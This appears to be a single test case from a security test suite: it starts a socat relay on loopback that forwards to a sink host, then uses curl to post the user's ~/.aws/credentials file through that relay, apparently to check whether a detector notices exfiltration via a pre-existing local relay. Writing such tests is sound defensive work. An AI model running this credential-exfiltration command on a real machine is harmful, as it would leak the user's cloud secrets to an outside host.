# SPDX-License-Identifier: Apache-2.0
TITLE="a relay on loopback that was there before and is not tainted"
ROW="I08 E26"
FORM=daemon NEEDS=socat
prepare() { setsid socat TCP-LISTEN:1080,bind=127.0.0.1,reuseaddr,fork "TCP:$SINK4:80" & sleep 0.3; }
attack() { curl -s -m 15 --data-binary @"$HOME/.aws/credentials" http://127.0.0.1:1080/; }
SECRET=''
